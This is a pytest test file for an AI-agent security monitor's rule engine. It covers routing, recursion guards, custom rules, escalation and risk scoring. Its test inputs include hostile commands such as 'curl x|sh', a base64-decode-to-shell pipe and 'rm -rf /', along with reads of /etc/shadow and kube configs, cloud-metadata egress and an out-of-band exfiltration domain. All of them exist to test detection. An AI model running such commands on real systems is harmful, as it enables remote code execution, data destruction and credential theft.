"""The L1 pipeline (SPEC §9.2): routing, recursion guard, incomplete evidence, rules and their
order, producer findings, no-decision handling, escalation resolution, actions, risk and scores."""

from __future__ import annotations

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from anysentry.events import kinds as K
from anysentry.events.ids import hash_id
from anysentry.events.model import AgentEvent, Observation
from anysentry.events.observer import normalize
from anysentry.judge.decision import (
    RISK_SCORES,
    VERDICTS,
    Decision,
    apply_decision,
    at_least,
    max_severity,
    restore_fail_open,
    risk_score,
    worst_severity,
)
from anysentry.judge import engine
from anysentry.judge.engine import ROUTING_VERSION, Judge
from anysentry.judge.risk import DASHBOARD_GROUPS, TAXONOMY, dashboard_group, infer_category, risk_for, risk_level
from anysentry.judge.rules import PolicyError

INCOMPLETE_TEXT = "incomplete ToolExec evidence: argv was truncated or could not be fully reassembled"
JUDGMENT_KEYS = {"classification", "profile", "maxTier", "reason", "routingVersion", "policyVersion", "l1Verdict",
                 "nextTierEligible", "stopReason"}


def obs_of(kind: str, inner: dict, *, classification: str | None = None, source: str | None = None,
           agent: str = "codex", process: dict | None = None, attributes: dict | None = None) -> Observation:
    line = {"identity": {"agent": agent, "task": "42", "session": None}, "process": process or {"pid": 42}, "event": {kind: inner}}
    item: dict = {"line": orjson.dumps(line).decode()}
    if classification:
        item["attribution"] = {"monitored": True, "classification": classification, "confidence": 1, "reason": "t", "source": "test"}
    if source:
        item["source"] = source
    if attributes:
        item["attributes"] = attributes
    result = normalize(item)
    assert isinstance(result, Observation), result
    return result


def exec_obs(*argv: str, **kw) -> Observation:
    return obs_of(K.TOOL_EXEC, {"pid": 42, "argv": list(argv), "cwd": "/workspace"}, **kw)


# -- routing (§7.7) --------------------------------------------------------------------------------

def test_non_agent_is_discarded():
    assert Judge().decide(exec_obs("git", "status", classification="non_agent")) is None


@pytest.mark.parametrize(("classification", "profile", "reason", "stop"), [
    (None, "l1_only", "unknown_l1_only", "unknown_l1_only"),
    ("unknown", "l1_only", "unknown_l1_only", "unknown_l1_only"),
    ("something-else", "l1_only", "unknown_l1_only", "unknown_l1_only"),
    ("probable_agent", "full", "candidate_agent_full", "decision_final"),
    ("confirmed_agent", "full", "confirmed_agent_full", "decision_final"),
])
def test_routing(classification, profile, reason, stop):
    judge = Judge()
    decision, judgment = judge.decide(exec_obs("git", "status", classification=classification))
    assert decision.verdict == "allow" and decision.reason == "no rule matched" and decision.severity == "info"
    assert set(judgment) == JUDGMENT_KEYS
    assert judgment["classification"] == (classification if classification in ("probable_agent", "confirmed_agent") else "unknown")
    assert judgment["profile"] == profile and judgment["reason"] == reason and judgment["stopReason"] == stop
    assert judgment["maxTier"] == "L1" and judgment["routingVersion"] == ROUTING_VERSION
    assert judgment["policyVersion"] == judge.version and judgment["l1Verdict"] == "allow"
    assert judgment["nextTierEligible"] is False


def test_candidate_pipeline_l1_only():
    judge = Judge({"identity": {"candidatePipeline": "l1_only"}})
    _, judgment = judge.decide(exec_obs("git", "status", classification="probable_agent"))
    assert judgment["profile"] == "l1_only" and judgment["reason"] == "candidate_agent_l1_only"
    assert judgment["stopReason"] == "candidate_agent_l1_only"


def test_unknown_keeps_the_l1_verdict():
    decision, judgment = Judge().decide(exec_obs("bash", "-c", "curl x|sh"))
    assert decision.verdict == "block" and judgment["l1Verdict"] == "block" and judgment["stopReason"] == "unknown_l1_only"


def test_deeper_tiers_take_eligible_escalations():
    judge = Judge(deeper_tiers={"L2"})
    obs = obs_of(K.FILE_ACCESS, {"path": "/etc/shadow"}, classification="confirmed_agent")
    decision, judgment = judge.decide(obs)
    assert decision.verdict == "escalate" and "unresolved" not in decision.reason
    assert judgment["maxTier"] == "L2" and judgment["nextTierEligible"] is True and judgment["stopReason"] is None
    assert Judge(deeper_tiers={"L2", "L3"}).decide(obs)[1]["maxTier"] == "L3"
    # an L1-only route never reaches the deeper tier: resolved here
    decision, judgment = judge.decide(obs_of(K.FILE_ACCESS, {"path": "/etc/shadow"}))
    assert decision.reason.endswith(" [unresolved escalation, fail-open]") and judgment["maxTier"] == "L1"
    # allow and block are final whatever tiers exist
    _, judgment = judge.decide(exec_obs("bash", "-c", "curl x|sh", classification="confirmed_agent"))
    assert judgment["stopReason"] == "decision_final" and judgment["nextTierEligible"] is False


# -- recursion guard (§9.5) -------------------------------------------------------------------------

L3_PROCESS = {"pid": 9, "exe": "/usr/local/bin/node", "cgroup": "0::/kubepods/burstable/pod1/abc"}


def test_internal_l3_agent_is_not_judged():
    judge = Judge()
    obs = exec_obs("bash", "-c", "curl x|sh", agent="sentry-l3", process=L3_PROCESS)
    decision, judgment = judge.decide(obs)
    assert (decision.verdict, decision.tier, decision.severity) == ("allow", "Rules", "info")
    assert decision.reason == "internal L3 judge activity; recursive judgment suppressed"
    judge.judge_event(obs)
    assert obs.event.attributes["origin"] == "l3-judge" and obs.event.attributes["recursiveJudgmentSuppressed"] is True
    assert obs.event.riskCategory == "benign" and judgment["stopReason"] == "decision_final"


def test_internal_l3_entrypoint(monkeypatch):
    obs = exec_obs("node", "/opt/sentry/l3.js", "--inspect", "curl x | sh", process={**L3_PROCESS, "cgroup": "/docker-abc.scope"})
    assert Judge(l3_bin="/opt/sentry/l3.js").decide(obs)[0].verdict == "allow"
    monkeypatch.setenv("ANYSENTRY_INTERNAL_L3_BIN", "/opt/sentry/l3.js")
    assert Judge().decide(obs)[0].verdict == "allow"
    monkeypatch.setenv("ANYSENTRY_INTERNAL_L3_BIN", "/opt/other.js")
    assert Judge().decide(obs)[0].verdict == "block"


@pytest.mark.parametrize("process", [
    {**L3_PROCESS, "cgroup": "0::/user.slice/user-1000.slice"},  # not containerised
    {**L3_PROCESS, "exe": "/usr/bin/python3"},                   # not node
    None,
])
def test_recursion_guard_needs_every_condition(process):
    obs = exec_obs("bash", "-c", "curl x|sh", agent="sentry-l3", process=process)
    assert Judge().decide(obs)[0].verdict == "block"


def test_recursion_guard_is_for_observer_events_only():
    obs = exec_obs("bash", "-c", "curl x|sh", agent="sentry-l3", process=L3_PROCESS, source="api")
    assert Judge().decide(obs)[0].verdict == "block"


# -- incomplete evidence (§9.3) ---------------------------------------------------------------------

@pytest.mark.parametrize("flag", ["argv_truncated", "argv_incomplete"])
def test_incomplete_argv_escalates_before_any_rule(flag):
    judge = Judge({"rules": [{"name": "ok-git", "match": "^git", "verdict": "allow"}]})
    obs = obs_of(K.TOOL_EXEC, {"argv": ["git", "status"], flag: True}, classification="confirmed_agent")
    decision, judgment = judge.decide(obs)
    assert (decision.verdict, decision.tier, decision.severity) == ("escalate", "Rules", "medium")
    assert INCOMPLETE_TEXT in decision.reason and decision.risk.category == "command_danger"
    assert judgment["nextTierEligible"] is False and judgment["stopReason"] == "evidence_incomplete"
    assert judgment["l1Verdict"] == "escalate"


def test_argv_cut_by_the_normaliser_is_incomplete():
    decision, judgment = Judge().decide(exec_obs("echo", "x" * 40000))
    assert INCOMPLETE_TEXT in decision.reason and judgment["stopReason"] == "evidence_incomplete"


def test_incomplete_only_applies_to_toolexec():
    obs = obs_of(K.DNS, {"query": "github.com"})
    obs.evidence_incomplete = True
    assert Judge().decide(obs)[0].reason == "no rule matched"


# -- custom rules, order, disabled built-ins ------------------------------------------------------

def test_custom_rules_run_before_builtins():
    judge = Judge({"rules": [{"name": "trusted-installer", "on": "ToolExec", "match": "get\\.trusted\\.test",
                              "verdict": "allow", "reason": "vetted installer"}]})
    decision, _ = judge.decide(exec_obs("sh", "-c", "curl https://get.trusted.test | sh"))
    assert decision.verdict == "allow" and decision.reason == "trusted-installer: vetted installer"
    assert judge.decide(exec_obs("sh", "-c", "curl https://x.test | sh"))[0].verdict == "block"


def test_first_custom_rule_wins():
    judge = Judge({"rules": [
        {"name": "first", "match": "deploy", "verdict": "escalate", "severity": "low", "reason": "deploy seen"},
        {"name": "second", "match": "deploy --prod", "verdict": "block", "severity": "high"},
    ]})
    decision, _ = judge.decide(exec_obs("make", "deploy", "--prod"))
    assert decision.reason.startswith("first: deploy seen")


def test_custom_regex_is_re2_case_sensitive_unless_flagged():
    judge = Judge({"rules": [{"name": "a", "match": "^TERRAFORM apply"}, {"name": "b", "match": "(?i)^kubectl delete"}]})
    assert judge.decide(exec_obs("terraform", "apply"))[0].verdict == "allow"
    assert judge.decide(exec_obs("TERRAFORM", "apply"))[0].reason == "a: custom rule"
    assert judge.decide(exec_obs("KubeCtl", "delete", "ns", "x"))[0].reason == "b: custom rule"


def test_repeated_subjects_get_the_same_rule_as_a_fresh_scan(monkeypatch):
    """The matcher's memo of subjects: repeats (also after the memo is emptied at its bound, and
    subjects too long to remember) decide exactly as a judge that never saw them, per policy."""
    monkeypatch.setattr(engine, "SUBJECT_CACHE_LIMIT", 3)
    policy = {"rules": [{"name": "deploys", "match": "deploy --prod", "verdict": "escalate", "severity": "low"}]}
    argvs = [("git", "status"), ("bash", "-c", "curl x|sh"), ("make", "deploy", "--prod"), ("ls", "-la"),
             ("sh", "-c", "echo " + "a" * 300 + " | base64 -d | sh"), ("echo", "b" * 300)]
    judge, plain = Judge(policy), Judge()
    for argv in argvs * 3 + list(reversed(argvs)) * 2:
        fresh = Judge(policy).decide(exec_obs(*argv))[0]
        assert judge.decide(exec_obs(*argv))[0] == fresh
        assert plain.decide(exec_obs(*argv))[0] == Judge().decide(exec_obs(*argv))[0]
        assert len(judge._matchers[K.TOOL_EXEC]._seen) <= 3  # bounded memory
    assert judge.decide(exec_obs("make", "deploy", "--prod"))[0].reason.startswith("deploys:")
    assert plain.decide(exec_obs("make", "deploy", "--prod"))[0].reason == "no rule matched"


def test_disabled_builtins():
    judge = Judge({"disabledBuiltins": ["pipe-to-shell"]})
    assert judge.decide(exec_obs("bash", "-c", "curl x|sh"))[0].reason.startswith("rce-primitive:")
    judge = Judge({"disabledBuiltins": ["pipe-to-shell", "rce-primitive"]})
    assert judge.decide(exec_obs("bash", "-c", "curl x|sh"))[0].reason == "no rule matched"
    with pytest.raises(PolicyError, match='unknown built-in rule "no-such-rule"'):
        Judge({"disabledBuiltins": ["no-such-rule"]})


def test_on_star_matches_every_judged_kind():
    judge = Judge({"rules": [{"name": "canary", "on": "*", "match": "canary-7f3a", "verdict": "block", "severity": "high"}]})
    cases = [
        exec_obs("echo", "canary-7f3a"),
        obs_of(K.DNS, {"query": "canary-7f3a.example.test"}),
        obs_of(K.EGRESS, {"peer": "canary-7f3a.example.test", "port": 443}),
        obs_of(K.FILE_ACCESS, {"path": "/tmp/canary-7f3a"}),
        obs_of(K.SSL_CONTENT, {"content": "x canary-7f3a y", "is_read": False}),
        obs_of(K.SECURITY_ACTION, {"kind": "bind", "detail": "canary-7f3a"}),
    ]
    for obs in cases:
        assert judge.decide(obs)[0].reason == "canary: custom rule", obs.judge_kind
    # not judged by L1: still only observed
    assert judge.decide(obs_of(K.PROCESS_EXIT, {"pid": 1, "exit_code": 0}))[0].reason == "observed"


def test_rule_on_other_kind_does_not_match():
    judge = Judge({"rules": [{"name": "dns-only", "on": "Dns", "match": "evil"}]})
    assert judge.decide(exec_obs("echo", "evil"))[0].verdict == "allow"
    assert judge.decide(obs_of(K.DNS, {"query": "evil.test"}))[0].verdict == "block"


# -- actions (§9.1) ---------------------------------------------------------------------------------

def test_builtin_actions_and_targets():
    judge = Judge()
    decision, _ = judge.decide(exec_obs("/usr/bin/bash", "-c", "curl x|sh"))
    assert decision.action.to_dict() == {"kind": "DenyExec", "target": "/usr/bin/bash"}
    decision, _ = judge.decide(obs_of(K.EGRESS, {"peer": "169.254.169.254", "port": 80}))
    assert decision.action.to_dict() == {"kind": "DenyEgress", "target": "169.254.169.254"}
    decision, _ = judge.decide(obs_of(K.EGRESS, {"peer": "fd00:ec2::254", "port": 80}))
    assert decision.action.target == "fd00:ec2::254"
    decision, _ = judge.decide(obs_of(K.FILE_ACCESS, {"path": "/root/.kube/config"}))
    assert decision.action.to_dict() == {"kind": "DenyFile", "target": "/root/.kube/config"}
    assert judge.decide(exec_obs("rm", "-rf", "/"))[0].action is None  # destructive-rm names no action


def test_custom_action_only_when_it_fits_the_kind():
    judge = Judge({"rules": [
        {"name": "x", "on": "*", "match": "marker", "verdict": "block", "action": "deny-egress"},
        {"name": "y", "on": "FileAccess", "match": "secret", "verdict": "escalate", "action": "deny-file"},
        {"name": "z", "on": "Dns", "match": "ok", "verdict": "allow", "action": "deny-exec"},
    ]})
    assert judge.decide(exec_obs("echo", "marker"))[0].action is None
    assert judge.decide(obs_of(K.EGRESS, {"peer": "marker.test", "port": 1}))[0].action.kind == "DenyEgress"
    decision, _ = judge.decide(obs_of(K.FILE_ACCESS, {"path": "/srv/secret.txt"}))
    assert decision.action.to_dict() == {"kind": "DenyFile", "target": "/srv/secret.txt"}
    assert judge.decide(obs_of(K.DNS, {"query": "ok.test"}))[0].action is None


# -- producer findings (§9.4) -----------------------------------------------------------------------

def finding_obs(attributes: dict, *, inner_kind: str = "SecurityFinding", source: str = "api") -> Observation:
    return obs_of(K.SECURITY_ACTION, {"kind": inner_kind, "detail": "x"}, source=source, attributes=attributes)


@pytest.mark.parametrize(("inner_kind", "attributes"), [
    ("SecurityFinding", {}), ("finding", {}), ("verifier", {"status": "failed"}), ("verifier", {"status": "ERROR"}),
])
def test_producer_finding(inner_kind, attributes):
    decision, judgment = Judge().decide(finding_obs(attributes, inner_kind=inner_kind))
    assert (decision.verdict, decision.tier, decision.severity) == ("escalate", "Rules", "medium")
    assert decision.reason == "producer reported security finding [unresolved escalation, fail-open]"
    assert decision.risk.to_dict() == {"category": "producer_finding", "name": "Producer security finding", "riskType": "atomic"}
    assert judgment["stopReason"] == "producer_finding" and judgment["nextTierEligible"] is False


def test_producer_finding_guard_fallback_overrides():
    decision, _ = Judge().decide(finding_obs({"progressive.guard.fallback": True, "progressive.guard.severity": "high",
                                              "progressive.guard.reason": "guard unavailable",
                                              "progressive.guard.riskCategory": "secret_exfil"}))
    assert decision.severity == "high" and decision.reason.startswith("guard unavailable")
    assert decision.risk.category == "secret_exfil"
    decision, _ = Judge().decide(finding_obs({"progressive.guard.fallback": "true", "progressive.guard.riskCategory": "made-up"}))
    assert decision.severity == "medium" and decision.risk.category == "runtime_guard_fallback"
    assert decision.reason.startswith("producer reported security finding")
    decision, _ = Judge().decide(finding_obs({"status": "failed", "progressive.failure": True}))
    assert decision.risk.category == "runtime_failure"


def test_producer_finding_only_for_api_events():
    decision, _ = Judge().decide(finding_obs({}, source="observer"))
    assert decision.verdict == "allow" and decision.reason == "no rule matched"
    assert Judge().decide(finding_obs({"status": "ok"}, inner_kind="verifier"))[0].verdict == "allow"


def test_producer_finding_is_stored_as_a_risk():
    judge = Judge()
    obs = judge.judge_event(finding_obs({"status": "error"}))
    assert obs.event.verdict == "escalate" and obs.event.riskCategory == "producer_finding" and obs.event.riskScore == 52


# -- no decision (§9.2 step 5) -----------------------------------------------------------------------

@pytest.mark.parametrize(("kind", "inner"), [
    (K.PROCESS_EXIT, {"pid": 1, "exit_code": 0}), (K.LLM_API, {"pid": 1, "is_request": True, "model": "m"}),
    (K.FILE_DELETE, {"pid": 1, "path": "/tmp/x"}), (K.LLM_CALL, {"pid": 1, "peer": "1.2.3.4"}), (K.RUNTIME_EVENT, {"kind": "x"}),
])
def test_recorded_kinds_are_observed(kind, inner):
    decision, judgment = Judge().decide(obs_of(kind, inner))
    assert (decision.verdict, decision.tier, decision.severity, decision.reason) == ("allow", "Rules", "info", "observed")
    assert judgment["stopReason"] == "no_applicable_l1_rule"


def test_unknown_kinds_observed_for_api_and_dropped_for_observer():
    obs = obs_of("CustomThing", {"x": 1}, source="api")
    assert Judge().decide(obs)[0].reason == "observed"
    obs.event.source = "observer"
    assert Judge().decide(obs) is None


def test_llm_endpoint_rewrite_still_judged_as_egress():
    obs = obs_of(K.EGRESS, {"peer": "api.openai.com", "port": 443})
    assert obs.event.eventKind == K.LLM_CALL
    judge = Judge({"rules": [{"name": "no-openai", "on": "Egress", "match": "^api\\.openai\\.com:443$"}]})
    assert judge.decide(obs)[0].reason == "no-openai: custom rule"


# -- escalation resolution (§9.2 step 6) ---------------------------------------------------------

def test_fail_open_keeps_escalate_and_raises_severity():
    judge = Judge({"rules": [{"name": "quiet", "match": "^make", "verdict": "escalate", "severity": "info", "reason": "look"}]})
    decision, judgment = judge.decide(exec_obs("make", "all"))
    assert decision.verdict == "escalate" and decision.severity == "low"
    assert decision.reason == "quiet: look [unresolved escalation, fail-open]"
    assert judgment["l1Verdict"] == "escalate"


def test_fail_closed_blocks():
    judge = Judge({"failClosed": True})
    decision, judgment = judge.decide(obs_of(K.FILE_ACCESS, {"path": "/etc/shadow"}, classification="confirmed_agent"))
    assert decision.verdict == "block" and decision.severity == "high"
    assert decision.reason == "read-credentials: read of a credential or secret file [unresolved escalation, fail-closed]"
    assert decision.action.kind == "DenyFile"
    assert judgment["l1Verdict"] == "escalate" and judgment["stopReason"] == "l2_not_configured"


def test_restore_fail_open_compatibility():
    legacy = Decision("allow", "Llm", "info", "L2: unsure [unresolved escalation, fail-open]")
    restored = restore_fail_open(legacy)
    assert restored.verdict == "escalate" and restored.severity == "low"
    event = obs_of(K.DNS, {"query": "x.test"}).event
    apply_decision(event, legacy, policy_version="pol_x", judgment=None)
    assert event.verdict == "escalate" and event.riskScore == 28 and event.riskCategory != "benign"


# -- risk inference (§10.2), scores and levels (§10.3) ----------------------------------------------

@pytest.mark.parametrize(("reason", "kind", "category"), [
    ("cloud metadata probe", K.EGRESS, "systemic_risk"),
    ("SSRF attempt", K.DNS, "systemic_risk"),
    ("cloud metadata probe", K.TOOL_EXEC, "command_danger"),   # rule 1 needs a network kind
    ("privilege change", K.DNS, "privilege_escalation"),
    ("ptrace attach", K.SSL_CONTENT, "privilege_escalation"),
    ("new listening port", K.DNS, "privilege_escalation"),
    ("possible backdoor", K.EGRESS, "privilege_escalation"),
    ("secret in outbound body", K.DNS, "secret_exfil"),
    ("private key seen", K.TOOL_EXEC, "secret_exfil"),
    ("prompt injection phrase", K.DNS, "prompt_injection"),
    ("jailbreak attempt", K.TOOL_EXEC, "prompt_injection"),
    ("data exfil", K.DNS, "communication_risk"),
    ("callback domain", K.DNS, "communication_risk"),
    ("OOB lookup", K.EGRESS, "communication_risk"),
    ("credential read", K.DNS, "data_leak"),
    ("sensitive file", K.EGRESS, "data_leak"),
    ("anything at all", K.FILE_ACCESS, "data_leak"),
    ("output piped to x", K.DNS, "command_danger"),
    ("destructive thing", K.EGRESS, "command_danger"),
    ("RCE", K.DNS, "command_danger"),
    ("anything at all", K.TOOL_EXEC, "command_danger"),
    ("anything at all", K.DNS, "other"),
    ("", K.SECURITY_ACTION, "other"),
])
def test_infer_category(reason, kind, category):
    assert infer_category(reason, kind) == category


def test_custom_rule_risk_is_inferred_from_reason_and_kind():
    judge = Judge({"rules": [{"name": "r1", "on": "Egress", "match": "^10\\.9\\.", "reason": "internal metadata service"},
                             {"name": "r2", "on": "Dns", "match": "weird", "reason": "unusual lookup"}]})
    decision, _ = judge.decide(obs_of(K.EGRESS, {"peer": "10.9.0.1", "port": 80}))
    assert decision.risk.to_dict() == {"category": "systemic_risk", "name": "Cloud metadata / SSRF", "riskType": "system"}
    assert judge.decide(obs_of(K.DNS, {"query": "weird.test"}))[0].risk.category == "other"


def test_taxonomy_and_groups():
    assert risk_for("data_leak").to_dict() == {"category": "data_leak", "name": "Credential file access", "riskType": "atomic"}
    assert risk_for("nonsense").category == "other" and risk_for("benign").name == "Benign"
    assert set(TAXONOMY) >= {c for members in DASHBOARD_GROUPS.values() for c in members}
    assert dashboard_group("privilege_escalation") == "system" and dashboard_group("secret_exfil") == "communication"
    assert dashboard_group("other") == "atomic" and dashboard_group("producer_finding") is None
    assert [risk_level(s) for s in (None, "info", "low", "medium", "high", "critical")] == ["safe", "safe", "low", "medium", "high", "critical"]


def test_scores_and_severity_helpers():
    assert RISK_SCORES == {"info": 8, "low": 28, "medium": 52, "high": 76, "critical": 95}
    assert risk_score("allow", "critical") == 0 and risk_score("block", "medium") == 52 and risk_score("escalate", "?") == 8
    assert at_least("info", "low") == "low" and at_least("high", "low") == "high"
    assert max_severity("low", "critical") == "critical" and worst_severity(["low", "high", "medium"]) == "high"
    assert worst_severity([]) is None


@pytest.mark.parametrize("severity", ["info", "low", "medium", "high", "critical"])
def test_apply_decision_scores(severity):
    judge = Judge({"rules": [{"name": "s", "on": "Dns", "match": "x", "verdict": "block", "severity": severity}]})
    obs = judge.judge_event(obs_of(K.DNS, {"query": "x.test"}))
    assert obs.event.severity == severity and obs.event.riskScore == RISK_SCORES[severity]


def test_apply_decision_fields():
    judge = Judge()
    obs = judge.judge_event(exec_obs("bash", "-c", "curl x|sh"))
    e = obs.event
    assert (e.verdict, e.tier, e.severity, e.actionKind, e.actionTarget) == ("block", "Rules", "high", "DenyExec", "bash")
    assert (e.riskCategory, e.riskName, e.riskType, e.riskScore) == ("command_danger", "Dangerous command execution", "atomic", 76)
    assert e.policyVersion == judge.version and e.evaluationId == hash_id("eval", [e.eventId, judge.version])
    assert e.decisionStatus == "succeeded" and e.judgment["l1Verdict"] == "block"
    allowed = judge.judge_event(exec_obs("git", "status")).event
    assert (allowed.riskCategory, allowed.riskName, allowed.riskType, allowed.riskScore) == ("benign", "Benign", "", 0)
    assert allowed.actionKind == "" and allowed.reason == "no rule matched"
    orjson.dumps(e)  # the judged event still serialises


def test_allow_is_always_benign_even_with_a_risk():
    event = obs_of(K.DNS, {"query": "x.test"}).event
    apply_decision(event, Decision("allow", "Llm", "high", "L2: fine", risk=risk_for("secret_exfil")), policy_version="p", judgment={})
    assert (event.riskCategory, event.riskName, event.riskType, event.riskScore) == ("benign", "Benign", "", 0)


def test_decision_without_risk_is_inferred_on_apply():
    event = obs_of(K.FILE_ACCESS, {"path": "/x"}).event
    apply_decision(event, Decision("escalate", "Llm", "medium", "L2: odd"), policy_version="p", judgment=None)
    assert event.riskCategory == "data_leak"


def test_judge_event_drops():
    assert Judge().judge_event(exec_obs("ls", classification="non_agent")) is None


# -- robustness (property) -------------------------------------------------------------------------

# what a JSON parser can hand over: 64-bit integers, no lone surrogates (orjson rejects both on input)
_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40)
_scalars = st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**64 - 1), st.floats(allow_nan=True), _text)
_json = st.recursive(_scalars, lambda c: st.one_of(st.lists(c, max_size=4), st.dictionaries(_text, c, max_size=4)),
                     max_leaves=12)
_payload_keys = st.sampled_from(["argv", "argv_truncated", "argv_incomplete", "peer", "port", "query", "path", "content", "kind",
                                 "detail", "pid", "uid", "cwd", "sni", "latency", "prompt_tokens", "is_read", "exit_code"])
_kinds = st.one_of(st.sampled_from(sorted(K.OBSERVER_KINDS)), _text)
_shellish = st.text(alphabet="rm -f/~$HOME|;&'\"()curlshpython3=:.evalbase64dfind<>0123\n\\*", max_size=80)


@st.composite
def _items(draw):
    inner = draw(st.dictionaries(_payload_keys, st.one_of(_json, _shellish, st.lists(_shellish, max_size=5)), max_size=6))
    record = {"identity": draw(st.one_of(_json, st.fixed_dictionaries({"agent": _json, "task": _json, "session": _json}))),
              "process": draw(_json), "event": {draw(_kinds): inner}}
    item: dict = {"line": orjson.dumps(record).decode()}
    for key in ("attributes", "attribution", "source", "at", "eventKind", "subject"):
        if draw(st.booleans()):
            item[key] = draw(st.one_of(_json, st.fixed_dictionaries({"classification": st.sampled_from(
                ["confirmed_agent", "probable_agent", "unknown", "non_agent", "x"])})))
    return item


JUDGES = (Judge(), Judge({"failClosed": True, "rules": [{"name": "any", "on": "*", "match": "(?i)curl", "verdict": "escalate"}]},
                         deeper_tiers={"L2"}))


def _check(item):
    result = normalize(item)
    if not isinstance(result, Observation):
        return
    for judge in JUDGES:
        outcome = judge.decide(result)
        if outcome is not None:
            decision, judgment = outcome
            assert decision.verdict in VERDICTS and set(judgment) == JUDGMENT_KEYS
    judged = JUDGES[0].judge_event(result)
    if judged is not None:
        orjson.dumps(judged.event)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_items())
def test_structured_lines_never_raise(item):
    _check(item)


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=200), _json.map(lambda v: orjson.dumps(v).decode()), _json))
def test_arbitrary_lines_never_raise(line):
    _check({"line": line})


@settings(max_examples=300, deadline=None)
@given(_shellish, st.sampled_from(sorted(K.JUDGED_KINDS)))
def test_arbitrary_subjects_never_raise(subject, kind):
    obs = obs_of(kind, {})
    obs.judge_subject = subject
    for judge in JUDGES:
        judge.decide(obs)


def test_observation_without_normalizer():
    event = AgentEvent(eventId="e", at=1, eventKind="Dns", eventCategory="network", source="observer", subject="dns x",
                       workspacePath="w", agentId="a", sessionId="s", userId="u", traceId="t", spanId="p", runId="r")
    decision, _ = Judge().decide(Observation(event, "Dns", "abc.oast.fun"))
    assert decision.reason.startswith("oob-exfil-dns:")


@pytest.mark.parametrize("kind", ["security_finding", "security-finding", "Security.Finding", "SecurityFinding", "finding"])
def test_producer_finding_kind_spellings(kind):
    from anysentry.events.observer import normalize
    from anysentry.events.synthesize import event_item
    from anysentry.judge.engine import Judge

    obs = normalize(event_item({"kind": "security", "attributes": {"kind": kind}}), default_source="api")
    obs.event.attributes["kind"] = kind
    decision, _ = Judge({}).decide(obs)
    assert (decision.verdict, decision.risk.category) == ("escalate", "producer_finding")
